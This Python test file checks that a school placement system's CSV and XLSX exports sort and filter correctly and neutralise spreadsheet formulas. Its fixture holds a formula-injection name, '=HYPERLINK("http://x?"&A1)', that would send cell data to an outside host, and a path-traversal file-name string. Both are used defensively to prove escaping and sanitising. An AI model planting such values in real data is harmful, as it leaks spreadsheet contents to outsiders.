"""Placement lists per school and per employer, CSV and XLSX, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Sequence

import openpyxl
import pytest
from sqlalchemy.orm import Session

from placement import audit
from placement import models as m
from placement.enums import AssignmentStatus
from placement.reports import exports
from placement.rounds import bridge
from placement.rounds import setup as rounds
from tests import factories as f
from tests.conftest import placement_headers, placements_sheet


def _csv(rows: Sequence[exports.PlacementRow], locale: str) -> bytes:
    """The placement list as CSV, with the headers the web layer gives a user of ``locale``."""
    return exports.to_csv(rows, placement_headers(locale))


def _xlsx(rows: Sequence[exports.PlacementRow], locale: str) -> bytes:
    """The placement list as XLSX, headers and sheet name as the web layer gives them to a user of ``locale``."""
    return exports.to_xlsx(rows, placement_headers(locale), title=placements_sheet(locale))


def _round(session: Session) -> tuple[m.AllocationRound, list[m.Pupil], list[m.Offer]]:
    """Two schools, two employers; three pupils placed, one with a hostile name, one with a proposal pending."""
    w45 = f.period(session, code="w45", start_date=dt.date(2026, 11, 2), end_date=dt.date(2026, 11, 13))
    schools = [f.school(session, name="Ängskolan"), f.school(session, name="Björkskolan")]
    offers = [
        f.offer(session, places={w45: 3}, title="+46 Kundtjänst", supervisor_name="Åsa Öberg"),
        f.offer(session, places={w45: 3}, title="@lager"),
    ]
    pupils = [
        f.pupil(
            session,
            school_class=f.school_class(session, school=schools[0], period=w45),
            first_name="Åsa",
            last_name="Öberg",
        ),
        f.pupil(
            session,
            school_class=f.school_class(session, school=schools[1], period=w45),
            first_name='=HYPERLINK("http://x?"&A1)',
            last_name="-Bengtsson",
        ),
        f.pupil(session, school_class=f.school_class(session, school=schools[1], period=w45), first_name="Cecilia"),
    ]
    allocation_round = rounds.create_round(session, "Höst / v45 – åäö", ["w45"], actor=audit.CLI)
    for pupil, offer, status in (
        (pupils[0], offers[0], AssignmentStatus.CONFIRMED),
        (pupils[1], offers[1], AssignmentStatus.PUBLISHED),
        (pupils[2], offers[1], AssignmentStatus.PUBLISHED),
        (pupils[2], offers[0], AssignmentStatus.PROPOSED),  # a pending change: the list shows the placement in force
    ):
        session.add(m.Assignment(round=allocation_round, pupil=pupil, offer=offer, period=w45, rank=1, status=status))
    session.flush()
    return allocation_round, pupils, offers


def test_one_row_per_placed_pupil_by_school_and_name(db_session: Session) -> None:
    allocation_round, pupils, offers = _round(db_session)
    rows = exports.placement_rows(db_session, allocation_round.id)
    # Swedish order on both databases: Ä after Z, whatever the database's collation.
    assert [(r.school, r.last_name) for r in rows] == [
        ("Björkskolan", "-Bengtsson"),
        ("Björkskolan", "Testsson"),
        ("Ängskolan", "Öberg"),
    ]
    by_pupil = {r.pupil_code: r for r in rows}
    assert len(by_pupil) == 3
    cecilia = by_pupil[bridge.student_id(pupils[2].id)]
    assert cecilia.offer_code == offers[1].code  # in force, not the pending proposal
    assert cecilia.start == dt.date(2026, 11, 2)
    assert by_pupil[bridge.student_id(pupils[0].id)].supervisor == "Åsa Öberg"


def test_filters_give_a_school_its_pupils_and_an_employer_its_pupils(db_session: Session) -> None:
    allocation_round, pupils, offers = _round(db_session)
    school_rows = exports.placement_rows(db_session, allocation_round.id, school_id=pupils[0].school_id)
    assert [r.last_name for r in school_rows] == ["Öberg"]
    employer_rows = exports.placement_rows(db_session, allocation_round.id, employer_id=offers[1].employer_id)
    assert sorted(r.pupil_code for r in employer_rows) == sorted(bridge.student_id(p.id) for p in pupils[1:])


def test_csv_opens_in_swedish_excel_and_neutralises_formulas(db_session: Session) -> None:
    allocation_round, _, _ = _round(db_session)
    data = _csv(exports.placement_rows(db_session, allocation_round.id), "sv")
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert table[0][:4] == ["Skola", "Klass", "Efternamn", "Förnamn"]
    cells = {cell for row in table[1:] for cell in row}
    assert "Åsa" in cells
    assert "Öberg" in cells
    assert """'=HYPERLINK("http://x?"&A1)""" in cells
    assert "'-Bengtsson" in cells
    assert "'+46 Kundtjänst" in cells
    assert "'@lager" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_xlsx_has_text_cells_never_formulas_and_real_dates(db_session: Session) -> None:
    allocation_round, _, _ = _round(db_session)
    data = exports.to_xlsx(
        exports.placement_rows(db_session, allocation_round.id), placement_headers("en"), title=placements_sheet("en")
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet.title == "Placements"
    assert [c.value for c in sheet[1]][:3] == ["School", "Class", "Last name"]
    assert sheet.freeze_panes == "A2"
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    hostile = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hostile
    assert all(c.data_type == "s" and c.value.startswith("'") for c in hostile)
    assert not any(c.data_type == "f" for c in cells)
    dates = [c.value for c in cells if isinstance(c.value, dt.datetime | dt.date)]
    assert dates
    first = dates[0]
    assert (first.date() if isinstance(first, dt.datetime) else first) == dt.date(2026, 11, 2)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+46", "'+46"),
        ("-x", "'-x"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Åsa", "Åsa"),
        (3, 3),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert exports.neutralise(value) == expected


def test_file_names_are_safe_whatever_the_round_is_called(db_session: Session) -> None:
    allocation_round, _, _ = _round(db_session)
    name = exports.filename(allocation_round, "school", "xlsx", "S/../12 å")
    assert name.startswith(f"praktik-round-{allocation_round.id}-school-")
    assert name.endswith(".xlsx")
    assert all(ch.isalnum() or ch in "._-" for ch in name)
    assert "/" not in name
